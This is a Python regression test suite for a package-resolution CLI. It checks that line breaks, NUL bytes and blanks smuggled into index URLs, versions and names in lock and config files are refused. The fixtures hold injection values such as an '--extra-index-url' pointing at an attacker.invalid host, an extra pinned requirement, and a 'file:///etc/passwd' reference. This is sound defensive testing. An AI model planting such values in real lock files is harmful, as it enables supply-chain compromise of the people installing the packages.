#!/usr/bin/env python3
"""Hardening, round three (issue 33), seen from the command line. Each case fails on
caf3dbd (see the comment on each):
  - text: a line break (LF, CR, VT, FF, \\x1c, U+0085, U+2028, U+2029), NUL or a blank
    in an index URL, inside a string of uv.lock, pylock.toml, pyproject.toml, uv.toml,
    a stack file or a policy is refused where it is read: exit 2 at file:line:col
    naming the field, stdout only the fail-closed line; nothing reaches a plan line;
  - NUL: a NUL in a TOML string no longer cuts it short (version "2.32\\u00005" was
    planned as requests==2.32, "torch\\u0000evil" taken as torch)."""
import hashlib
import http.server
import json
import os
import re
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

from clitest import check, exe, fixture_index, rocm72 as venv, sanitizer_check, summary, write

FAIL_CLOSED = b"rocm-resolve failed, no plan: see its error above\n"


def run(args, cwd=None, env=None, timeout=60):
    try:
        p = subprocess.run([exe] + args, cwd=cwd, env=env, capture_output=True, timeout=timeout,
                           stdin=subprocess.DEVNULL)
    except subprocess.TimeoutExpired:
        return None
    sanitizer_check(args, p.stderr)
    return p


UV_LOCK = '''version = 1
revision = 3
requires-python = ">=3.10"

[[package]]
name = "demo"
version = "0.1.0"
source = { virtual = "." }
dependencies = [{ name = "idna" }, { name = "six" }]

[[package]]
name = "idna"
version = "3.10"
source = { @IDNA@ }

[[package]]
name = "six"
version = "1.17.0"
source = { registry = "https://pypi.org/simple" }
'''

PYLOCK = '''lock-version = "1.0"
created-by = "hand"

[[packages]]
name = "six"
version = "1.17.0"
wheels = [{ url = "https://files.example/six-1.17.0-py2.py3-none-any.whl", hashes = {} }]

[[packages]]
name = "idna"
@IDNA@
'''

PYPROJECT = '''[project]
name = "demo"
version = "0.1.0"
dependencies = [
    "six>=1",
    @IDNA@,
]
'''

INJECT = "pytorch-triton==3.1.0"
# TOML escapes of the characters that end a line for pip's str.splitlines(), and NUL
BREAKS = {"LF": "\\n", "CR": "\\r", "VT": "\\u000b", "FF": "\\f", "FS": "\\u001c",
          "NEL": "\\u0085", "LS": "\\u2028", "PS": "\\u2029", "NUL": "\\u0000"}


def cases():
    """(kind, file name, text, field the error must name, line of the string)"""
    out = []
    for key, esc in BREAKS.items():
        url = "https://files.example/idna-3.10-py3-none-any.whl" + esc + INJECT
        out.append((f"uv.lock url {key}", "uv.lock",
                    UV_LOCK.replace("@IDNA@", f'url = "{url}"'), "source 'url'", 14))
        out.append((f"uv.lock git {key}", "uv.lock",
                    UV_LOCK.replace("@IDNA@", 'git = "https://git.example/idna' + esc + INJECT +
                                    '#4f1c1a7d"'), "source 'git'", 14))
        out.append((f"uv.lock registry {key}", "uv.lock",
                    UV_LOCK.replace("@IDNA@", 'registry = "https://a.example/simple' + esc +
                                    '--extra-index-url https://attacker.invalid/simple"'),
                    "source 'registry'", 14))
        out.append((f"pylock index {key}", "pylock.toml",
                    PYLOCK.replace("@IDNA@", 'version = "3.10"\nindex = "https://a.example/simple'
                                   + esc + '--extra-index-url https://attacker.invalid/simple"\n'
                                   'wheels = [{ url = "https://files.example/idna-3.10-py3-none-'
                                   'any.whl", hashes = {} }]'), "'index'", 12))
        out.append((f"pylock archive.url {key}", "pylock.toml",
                    PYLOCK.replace("@IDNA@", f'archive = {{ url = "{url}", hashes = {{}} }}'),
                    "'url' of 'archive'", 11))
        out.append((f"pylock vcs.url {key}", "pylock.toml",
                    PYLOCK.replace("@IDNA@", 'vcs = { type = "git", url = "https://git.example/'
                                   'idna' + esc + INJECT + '", commit-id = "4f1c1a7d" }'),
                    "'url' of 'vcs'", 11))
        out.append((f"pyproject name @ URL {key}", "pyproject.toml",
                    PYPROJECT.replace("@IDNA@", f'"idna @ {url}"'),
                    "an entry of [project] dependencies", 6))
    # a raw U+2028 in a basic string (TOML allows it unescaped)
    out.append(("uv.lock url raw LS", "uv.lock",
                UV_LOCK.replace("@IDNA@", 'url = "https://files.example/idna.whl\u2028' + INJECT +
                                '"'), "source 'url'", 14))
    # a multi-line string holds a raw line feed
    out.append(("pyproject multi-line", "pyproject.toml",
                PYPROJECT.replace("@IDNA@", '"""idna @ https://files.example/idna.whl\n' + INJECT +
                                  '"""'), "an entry of [project] dependencies", 6))
    # a blank in an index URL adds an option on pip's line (shlex)
    out.append(("uv.lock registry blank", "uv.lock",
                UV_LOCK.replace("@IDNA@", 'registry = "https://a.example/simple '
                                '--extra-index-url https://attacker.invalid/simple"'),
                "source 'registry'", 14))
    return out


def test_text_rule(tmp):
    """33.1: caf3dbd planned the injected line (check exit 0, the plan held
    pytorch-triton==3.1.0 or --extra-index-url https://attacker.invalid/simple as a line
    of its own); now each is exit 2 at file:line:col naming the field"""
    for i, (what, name, text, field, line) in enumerate(cases()):
        d = os.path.join(tmp, "inject", str(i))
        path = os.path.join(d, name)
        write(path, text)
        for cmd in (["check"], []):
            p = run(cmd + ["--no-index", "-q", "--venv", venv, name], cwd=d)
            err = p.stderr.decode(errors="replace") if p else ""
            where = f"{name}:{line}:"
            ok = (p is not None and p.returncode == 2 and where in err and field in err and
                  "refused" in err)
            check(ok, f"{'check' if cmd else 'plan'} {what}: exit 2 at {where} naming {field}",
                  f"rc={p.returncode if p else None}\n{err}\nstdout={p.stdout if p else ''}")
            if not cmd and p is not None:
                check(p.stdout == FAIL_CLOSED, f"plan {what}: stdout only the fail-closed line",
                      p.stdout)
                check(b"pytorch-triton" not in p.stdout and b"attacker" not in p.stdout,
                      f"plan {what}: the injected text is nowhere on stdout", p.stdout)


def test_text_rule_other_inputs(tmp):
    """33.1: the same rule for uv.toml, a stack file and a policy (caf3dbd read them)"""
    d = os.path.join(tmp, "other")
    write(os.path.join(d, "requirements.txt"), "six\n")
    # uv.toml: an index URL with a line break, read when uv is the installer
    write(os.path.join(d, "uv.toml"),
          'index-url = "https://a.example/simple\\n--extra-index-url https://attacker.invalid"\n')
    env = dict(os.environ, XDG_CONFIG_HOME=os.path.join(d, "xdg"), UV_CONFIG_FILE="")
    env.pop("UV_CONFIG_FILE")
    p = run(["check", "--offline", "-q", "--installer", "uv", "--venv", venv, "requirements.txt"],
            cwd=d, env=env)
    err = p.stderr.decode(errors="replace") if p else ""
    check(p is not None and p.returncode == 2 and "uv.toml:1:" in err and
          "uv setting 'index-url'" in err,
          "uv.toml index-url with a line break: exit 2 at uv.toml:1 naming the key",
          f"rc={p.returncode if p else None}\n{err}")
    os.remove(os.path.join(d, "uv.toml"))
    # a stack file whose protected version holds a line break
    st = run(["inspect", "--format", "json", "--venv", venv])
    doc = json.loads(st.stdout)
    for dist in doc["distributions"]:
        if dist["name"] == "torch":
            dist["version"] = dist["version"] + "\nnvidia-cublas-cu12==12.1.3.1"
    write(os.path.join(d, "stack.json"), json.dumps(doc))
    p = run(["--no-index", "-q", "--stack", "stack.json", "requirements.txt"], cwd=d)
    err = p.stderr.decode(errors="replace") if p else ""
    check(p is not None and p.returncode == 2 and "stack.json" in err and
          ".version holds U+000A" in err and p.stdout == FAIL_CLOSED,
          "stack file version with a line break: exit 2 naming the field",
          f"rc={p.returncode if p else None}\n{err}\n{p.stdout if p else ''}")
    # a policy rule's reason with U+2028 (it is written into the plan's comments)
    write(os.path.join(d, "policy.json"), json.dumps({
        "schema": 1, "cuda_only": [{"id": "x", "pattern": "^rr-x$",
                                     "reason": "CUDA build\u2028" + INJECT}]}))
    p = run(["--no-index", "-q", "--venv", venv, "--policy", "policy.json",
             "requirements.txt"], cwd=d)
    err = p.stderr.decode(errors="replace") if p else ""
    check(p is not None and p.returncode == 2 and "policy.json:1:" in err and
          '"reason" holds U+2028' in err,
          "policy reason with U+2028: exit 2 at policy.json:line:col naming the key",
          f"rc={p.returncode if p else None}\n{err}")


def test_nul(tmp):
    """33.1 (why 3): caf3dbd cut a TOML string at a NUL: version "2.32\\u00005" planned as
    requests==2.32, a package "torch\\u0000evil" taken as torch, a pyproject
    "requests\\u0000 @ file:///etc/passwd" planned as requests"""
    d = os.path.join(tmp, "nul")
    lock = UV_LOCK.replace("@IDNA@", 'registry = "https://pypi.org/simple"').replace(
        'version = "3.10"', 'version = "3.10\\u00005"')
    write(os.path.join(d, "a", "uv.lock"), lock)
    lock = UV_LOCK.replace("@IDNA@", 'registry = "https://pypi.org/simple"').replace(
        'name = "idna"', 'name = "torch\\u0000evil"').replace(
        '{ name = "idna" }', '{ name = "torch\\u0000evil" }')
    write(os.path.join(d, "b", "uv.lock"), lock)
    write(os.path.join(d, "c", "pyproject.toml"),
          PYPROJECT.replace("@IDNA@", '"requests\\u0000 @ file:///etc/passwd"'))
    for sub, name, field in (("a", "uv.lock", "'version'"), ("b", "uv.lock", "'name'"),
                             ("c", "pyproject.toml", "[project] dependencies")):
        p = run(["--no-index", "-q", "--venv", venv, name], cwd=os.path.join(d, sub))
        err = p.stderr.decode(errors="replace") if p else ""
        check(p is not None and p.returncode == 2 and "holds U+0000 (NUL)" in err and
              field in err and p.stdout == FAIL_CLOSED,
              f"NUL in {sub}/{name} {field}: exit 2, not cut short",
              f"rc={p.returncode if p else None}\n{err}\n{p.stdout if p else ''}")
    # the user's [tool.uv] constraint that project reads: caf3dbd took it as "requests"
    write(os.path.join(d, "e", "pyproject.toml"),
          PYPROJECT.replace("@IDNA@", '"idna"') + '\n[tool.uv]\nconstraint-dependencies = [\n'
          '    "requests\\u0000 @ file:///etc/passwd",\n]\n')
    p = run(["project", "--no-index", "-q", "--venv", venv, "."], cwd=os.path.join(d, "e"))
    err = p.stderr.decode(errors="replace") if p else ""
    check(p is not None and p.returncode == 2 and "pyproject.toml:11:6:" in err and
          "an entry of 'constraint-dependencies' holds U+0000" in err,
          "NUL in a [tool.uv] constraint: project exits 2 at its place", err)


def big_uv_lock(path, n, chain):
    """a uv.lock whose project depends on n registry packages (chain: each on the next)"""
    parts = ['version = 1\nrevision = 3\nrequires-python = ">=3.10"\n\n[[package]]\n'
             'name = "big"\nversion = "1.0"\nsource = { virtual = "." }\n']
    parts.append('dependencies = [{ name = "pkg0" }]\n' if chain else "dependencies = [\n" +
                 "".join(f'    {{ name = "pkg{i}" }},\n' for i in range(n)) + "]\n")
    for i in range(n):
        parts.append(f'\n[[package]]\nname = "pkg{i}"\nversion = "1.0.{i}"\n'
                     'source = { registry = "https://pypi.org/simple" }\n')
        if chain and i + 1 < n:
            parts.append(f'dependencies = [{{ name = "pkg{i + 1}" }}]\n')
    write(path, "".join(parts))


def cpu_of(args, cwd):
    """CPU seconds (user + system) rocm-resolve spent, and its exit status"""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    p = run(args, cwd=cwd, timeout=600)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return cpu, p.returncode if p else None


def test_lock_linear(tmp):
    """33.3: caf3dbd looked every uv.lock edge up by scanning all packages (twice:
    checking the lock, walking it): 4x the packages took ~16x the CPU (100k: 25 s).
    Indexed by name, 4x the packages take ~4x; the test allows 8x"""
    for chain in (False, True):
        cpu = {}
        for n in (10000, 40000):
            d = os.path.join(tmp, "big", f"{n}-{chain}")
            big_uv_lock(os.path.join(d, "uv.lock"), n, chain)
            cpu[n], rc = cpu_of(["--no-index", "-q", "--venv", venv, "uv.lock"], d)
            check(rc == 0, f"uv.lock of {n} packages{' (a chain)' if chain else ''} is planned",
                  rc)
        ratio = cpu[40000] / max(cpu[10000], 0.05)
        check(ratio < 8, f"uv.lock{' chain' if chain else ''}: 4x the packages, {ratio:.1f}x "
              f"the CPU ({cpu[10000]:.2f} s, {cpu[40000]:.2f} s)")


def requests_seen(url):
    with urllib.request.urlopen(url + "/_control/stats", timeout=10) as r:
        return json.load(r)["requests"]


def test_write_sees_save(tmp, url):
    """33.2: caf3dbd read pyproject.toml, resolved, then replaced the file with its edit
    of the old text: a dependency saved meanwhile was gone, exit 0. Now the file is read
    again before the rename: it changed, so nothing is written, exit 3, the user's
    version stays. The index answers slowly; the save happens while it is asked."""
    d = os.path.join(tmp, "save")
    pp = os.path.join(d, "pyproject.toml")
    first = '[project]\nname = "demo"\nversion = "0.1.0"\ndependencies = ["idna"]\n'
    saved = first.replace('["idna"]', '["idna", "six>=1"]')
    write(pp, first)
    start = requests_seen(url)
    slow = url + "/_fault/latency/1500/simple/"
    proc = subprocess.Popen([exe, "project", "--write", "--no-cache", "--venv", venv, "-i", slow,
                             "."], cwd=d, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while requests_seen(url) == start and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.02)
    write(pp, saved)  # the editor's save, while rocm-resolve waits for the index
    out, err = proc.communicate(timeout=120)
    err = err.decode(errors="replace")
    with open(pp) as f:
        now = f.read()
    check(proc.returncode == 3 and "changed since it was read" in err,
          "project --write over a file saved meanwhile: exit 3, says so",
          f"rc={proc.returncode}\n{err}")
    check(now == saved, "the user's save is what the file holds", now)
    # nothing changed meanwhile: written
    p = run(["project", "--write", "--no-cache", "--venv", venv, "-i", url + "/simple/", "."],
            cwd=d)
    with open(pp) as f:
        now = f.read()
    check(p is not None and p.returncode == 0 and now.startswith(saved) and "[tool.uv]" in now,
          "project --write with no save meanwhile writes its edit",
          (p.stderr.decode(errors="replace") if p else "") + now)


class Wire:
    """an index on 127.0.0.1 that answers 404 with keep-alive to every path but those
    holding /idna/, whose requests it reads and then drops: libcurl reuses a kept-alive
    connection for idna, finds it dead and sends the request again by itself"""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.idna = 0
        self.lock = threading.Lock()
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self.handle, args=(c,), daemon=True).start()

    def handle(self, c):
        buf = b""
        with c:
            while True:
                while b"\r\n\r\n" not in buf:
                    d = c.recv(4096)
                    if not d:
                        return
                    buf += d
                head, buf = buf.split(b"\r\n\r\n", 1)
                if b"/idna/" in head.split(b"\r\n")[0]:
                    with self.lock:
                        self.idna += 1
                    return
                c.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")


def test_wire_attempts(tmp):
    """33.5: caf3dbd said "after 4 attempts" while libcurl had sent the request again by
    itself on fresh connections (9 requests on the wire): now each resend counts (and
    uses up the retries), and -vv says so"""
    w = Wire()
    req = os.path.join(tmp, "idna.txt")
    write(req, "idna\n")
    p = run(["plan", "-vv", "--no-cache", "--venv", venv, "-i",
             f"http://127.0.0.1:{w.port}/simple/", req])
    time.sleep(0.2)
    err = p.stderr.decode(errors="replace") if p else ""
    m = re.search(r"/simple/idna/: .*\(after (\d+) attempts?\)", err)
    told = int(m.group(1)) if m else None
    check(p is not None and p.returncode == 3 and told is not None and told == w.idna,
          f"the attempts told ({told}) are the requests on the wire ({w.idna})", err[-2000:])
    check(w.idna > 4 or "more time" in err, "libcurl's own resends happened (and -vv names "
          "them)", err[-2000:])
    w.sock.close()


class Big(http.server.BaseHTTPRequestHandler):
    """a project page listing one wheel of SIZE bytes (its sha256 right), the file sent
    whole whatever Range asks (sendfile: the download is quick)"""
    protocol_version = "HTTP/1.1"
    NAME = "bigpkg-1.0-py3-none-any.whl"

    def log_message(self, *a):
        pass

    def do_GET(self):
        if self.path == "/simple/bigpkg/":
            page = json.dumps({"meta": {"api-version": "1.1"}, "name": "bigpkg", "files": [
                {"filename": self.NAME, "url": "/files/" + self.NAME,
                 "hashes": {"sha256": self.server.sha}, "size": self.server.size}]}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/vnd.pypi.simple.v1+json")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)
        elif self.path == "/files/" + self.NAME:
            self.send_response(200)
            self.send_header("Content-Length", str(self.server.size))
            self.end_headers()
            self.wfile.flush()
            try:
                with open(self.server.path, "rb") as f:
                    self.connection.sendfile(f)
            except OSError:
                pass
        else:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()


def test_deadline_covers_hashing(tmp):
    """33.5: caf3dbd checked --timeout around the transfers only: the sha256 of a large
    wheel that arrived in time was computed to the end (--timeout 2 against 1500 MiB
    ended after about 6 s). Calibrated: a first run without a tight deadline says when
    the download ends (D) and how long hashing and reading take (H); the second run gets
    a deadline a quarter into the hashing and must end near it, not 3/4 H later"""
    path = os.path.join(tmp, "big.whl")
    size = 768 << 20
    with open(path, "wb") as f:
        f.truncate(size)  # zeros: sparse on disk, hashed at full cost
    h = hashlib.sha256()
    zeros = bytes(1 << 20)
    for _ in range(size >> 20):
        h.update(zeros)
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Big)
    srv.sha, srv.size, srv.path = h.hexdigest(), size, path
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{srv.server_address[1]}/simple/"
    req = os.path.join(tmp, "big.txt")
    write(req, "bigpkg\n")
    args = ["plan", "-vv", "--no-cache", "--venv", venv, "-i", url]
    t0 = time.monotonic()
    p = run(args + ["--timeout", "600", req], timeout=600)
    total = time.monotonic() - t0
    err = p.stderr.decode(errors="replace") if p else ""
    m = re.search(r"GET \S+/files/bigpkg\S+ -> 200 \((\d+) bytes\).*?, [0-9.]+-([0-9.]+) s", err)
    if not m or int(m.group(1)) != size:
        check(False, "the calibration run downloads the whole wheel", err[-2000:])
        return
    dl = float(m.group(2))
    rest = total - dl
    if rest < 2.0:
        print(f"skip: hashing {size >> 20} MiB took {rest:.2f} s here, too quick to tell")
        srv.shutdown()
        return
    limit = int(dl + rest / 4 + 0.999)
    t0 = time.monotonic()
    p = run(args + ["--timeout", str(limit), req], timeout=600)
    took = time.monotonic() - t0
    err = p.stderr.decode(errors="replace") if p else ""
    check(p is not None and took < limit + max(0.5, rest / 4) and
          (took < limit or (p.returncode == 3 and "--timeout" in err)),
          f"--timeout {limit} with the download done at {dl:.1f} s and {rest:.1f} s of hashing "
          f"and reading after it: ends at {took:.1f} s, naming --timeout", err[-1500:])
    srv.shutdown()


def main():
    with fixture_index() as url:
        check(url.startswith("http://127.0.0.1:"), "the fixture index runs", url)
        with tempfile.TemporaryDirectory(prefix="rr-harden3-") as tmp:
            for t in (test_text_rule, test_text_rule_other_inputs, test_nul, test_lock_linear):
                print(f"# {t.__name__}")
                t(tmp)
            for t in (test_wire_attempts, test_deadline_covers_hashing):
                print(f"# {t.__name__}")
                t(tmp)
            for t in (test_write_sees_save,):
                print(f"# {t.__name__}")
                t(tmp, url)
    return summary()


if __name__ == "__main__":
    sys.exit(main())
